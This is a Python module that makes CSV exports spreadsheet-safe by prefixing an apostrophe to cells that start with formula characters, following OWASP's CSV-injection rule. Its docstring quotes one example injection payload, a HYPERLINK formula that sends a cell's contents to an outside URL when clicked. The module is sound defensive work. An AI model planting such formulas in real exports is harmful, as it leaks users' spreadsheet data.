"""Spreadsheet-safe exports: comment texts are hostile, and a spreadsheet runs a cell that starts
with ``=`` as a formula (``=HYPERLINK("http://…"&A1,"Жалоба")`` leaks the sheet when clicked).

OWASP's CSV-injection rule: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading apostrophe, which spreadsheets show as text and do not evaluate. Every CSV
the project writes (the workspace's journal export, ``modbot decisions``) goes through here."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The cell's text, neutralised when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_lines(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV text (no header), every cell neutralised."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return buf.getvalue()


def csv_rows(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterable[str]:
    """CSV text chunk by chunk (header first), every cell neutralised; for streaming responses."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
        if buf.tell() > 64 * 1024:
            yield buf.getvalue()
            buf.seek(0)
            buf.truncate()
    yield buf.getvalue()


__all__ = ["FORMULA_START", "csv_lines", "csv_rows", "safe_cell"]
